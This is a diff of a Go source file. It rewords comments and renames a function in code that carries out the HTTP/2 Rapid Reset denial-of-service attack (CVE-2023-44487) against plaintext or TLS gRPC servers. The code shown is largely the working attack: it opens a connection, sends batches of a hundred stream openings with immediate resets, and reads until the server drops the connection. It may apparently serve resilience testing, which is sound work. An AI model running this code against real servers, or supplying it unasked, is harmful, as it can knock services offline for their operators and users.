@@ -19,10 +19,10 @@ var ErrCutOff = errors.New("the server ended the connection")
 // resetsAtOnce is how many streams are opened and reset in one write.
 const resetsAtOnce = 100
 
-// RapidReset opens streams on one connection to a server of plaintext HTTP/2 and resets
-// each at once, as fast as the server takes them (CVE-2023-44487). The streams are gRPC
-// calls of path. It returns when the connection ends, with ErrCutOff if the server gave an
-// error, or when ctx does, with the error of ctx.
+// RapidReset opens streams on one connection to a plaintext HTTP/2 server and resets each
+// immediately, as fast as the server accepts them (CVE-2023-44487). The streams are gRPC
+// calls of path. It returns when the connection ends, with ErrCutOff if the server sent an
+// error, or when ctx ends, with the error of ctx.
 func RapidReset(ctx context.Context, addr, path string) error {
 	conn, err := new(net.Dialer).DialContext(ctx, "tcp", addr)
 	if err != nil {
@@ -31,13 +31,13 @@ func RapidReset(ctx context.Context, addr, path string) error {
 	return RapidResetOn(ctx, conn, path)
 }
 
-// RapidResetOn is RapidReset on a connection that has been opened, with TLS for instance.
-// It closes the connection.
+// RapidResetOn is RapidReset on an open connection, for instance with TLS. It closes the
+// connection.
 func RapidResetOn(ctx context.Context, conn net.Conn, path string) error {
 	defer context.AfterFunc(ctx, func() { _ = conn.Close() })()
 	farewell := make(chan error, 1)
 	go func() {
-		farewell <- readFarewell(conn)
+		farewell <- readGoAway(conn)
 		_ = conn.Close() // ends the writes
 	}()
 	err := writeResets(conn, path)
@@ -50,13 +50,13 @@ func writeResets(conn net.Conn, path string) error {
 	var batch bytes.Buffer
 	framer := http2.NewFramer(&batch, nil)
 	batch.WriteString(http2.ClientPreface)
-	_ = framer.WriteSettings() // a buffer takes all
+	_ = framer.WriteSettings() // writes to a buffer do not fail
 	if _, err := conn.Write(batch.Bytes()); err != nil {
 		return err
 	}
 	batch.Reset()
 	head := requestHead(conn, path)
-	var ids []int // where they are in the batch
+	var ids []int // the offsets of stream ids in the batch
 	for range resetsAtOnce {
 		ids = append(ids, batch.Len()+5)
 		_ = framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: head, EndHeaders: true})
@@ -75,8 +75,8 @@ func writeResets(conn net.Conn, path string) error {
 	}
 }
 
-// readFarewell reads until the connection ends, and returns why.
-func readFarewell(conn net.Conn) error {
+// readGoAway reads until the connection ends, and returns why.
+func readGoAway(conn net.Conn) error {
 	framer := http2.NewFramer(nil, conn)
 	var farewell error
 	for {
@@ -90,7 +90,8 @@ func readFarewell(conn net.Conn) error {
 	}
 }
 
-// requestHead returns the headers of a gRPC call in a form that depends on no earlier ones.
+// requestHead returns the headers of a gRPC call, encoded without reference to earlier
+// ones.
 func requestHead(conn net.Conn, path string) []byte {
 	var block bytes.Buffer
 	scheme := "http"
@@ -106,7 +107,7 @@ func requestHead(conn net.Conn, path string) []byte {
 		{"content-type", "application/grpc"},
 		{"te", "trailers"},
 	} {
-		_ = encoder.WriteField(hpack.HeaderField{Name: f[0], Value: f[1], Sensitive: true}) // a buffer takes all
+		_ = encoder.WriteField(hpack.HeaderField{Name: f[0], Value: f[1], Sensitive: true}) // writes to a buffer do not fail
 	}
 	return block.Bytes()
 }
